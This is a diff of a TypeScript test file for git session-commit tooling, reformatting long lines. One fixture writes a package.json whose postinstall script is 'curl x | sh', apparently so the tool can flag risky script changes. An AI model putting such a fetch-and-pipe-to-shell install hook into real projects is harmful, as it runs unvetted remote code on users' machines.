@@ -6,7 +6,15 @@ import type { GitRunner } from '../../src/git/git-runner.js';
 import { commitDiff, sessionDiff } from '../../src/git/session-diff.js';
 import { listSessionCommits } from '../../src/git/session-log.js';
 import { sessionRefs } from '../../src/git/types.js';
-import { agentCommit, bring, git, makeRepos, run, snapshot, type SessionRepos } from '../support/git-repos.js';
+import {
+  agentCommit,
+  bring,
+  git,
+  makeRepos,
+  run,
+  snapshot,
+  type SessionRepos,
+} from '../support/git-repos.js';
 
 let repos: SessionRepos;
 afterEach(() => repos.remove());
@@ -83,7 +91,12 @@ describe('listSessionCommits', () => {
     expect(commits.map((c) => c.subject)).toEqual(['first', 'side']);
     expect(commits.map((c) => c.sha).sort()).toEqual([first, side].sort());
     const [one] = commits;
-    expect(one).toMatchObject({ message: 'first\n\nwith a body', authorName: 'Agent Smith', added: 1, removed: 10 });
+    expect(one).toMatchObject({
+      message: 'first\n\nwith a body',
+      authorName: 'Agent Smith',
+      added: 1,
+      removed: 10,
+    });
     expect(one?.files).toEqual(
       expect.arrayContaining([
         { path: 'image.bin', status: 'added', added: null, removed: null },
@@ -100,7 +113,9 @@ describe('listSessionCommits', () => {
       JSON.stringify({ name: 'p', version, scripts }, null, 2) + '\n';
     agentCommit(repos, 'workflow', { '.github/workflows/ci.yml': 'on: push\n' });
     agentCommit(repos, 'version only', { 'package.json': pkg({ test: 'vitest' }, '1.0.1') });
-    agentCommit(repos, 'scripts', { 'package.json': pkg({ test: 'vitest', postinstall: 'curl x | sh' }, '1.0.1') });
+    agentCommit(repos, 'scripts', {
+      'package.json': pkg({ test: 'vitest', postinstall: 'curl x | sh' }, '1.0.1'),
+    });
     agentCommit(repos, 'script', { 'tool.sh': 'echo hi\n' }, { executable: ['tool.sh'] });
     agentCommit(repos, 'plain', { 'docs.md': 'docs\n', 'sub/Makefile': 'all:\n' });
     await bring(repos);
@@ -121,11 +136,13 @@ describe('listSessionCommits', () => {
       calls++;
       return run(dir, args, options);
     };
-    for (let i = 0; i < 5; i++) agentCommit(repos, `c${i}`, { [`f${i}.txt`]: `${i}\n`, 'package.json': `{"v":${i}}\n` });
+    for (let i = 0; i < 5; i++)
+      agentCommit(repos, `c${i}`, { [`f${i}.txt`]: `${i}\n`, 'package.json': `{"v":${i}}\n` });
     await bring(repos);
     await listSessionCommits(counting, repos.host, repos.session);
     const forFive = calls;
-    for (let i = 5; i < 50; i++) agentCommit(repos, `c${i}`, { [`f${i}.txt`]: `${i}\n`, 'package.json': `{"v":${i}}\n` });
+    for (let i = 5; i < 50; i++)
+      agentCommit(repos, `c${i}`, { [`f${i}.txt`]: `${i}\n`, 'package.json': `{"v":${i}}\n` });
     await bring(repos);
     calls = 0;
     const started = performance.now();
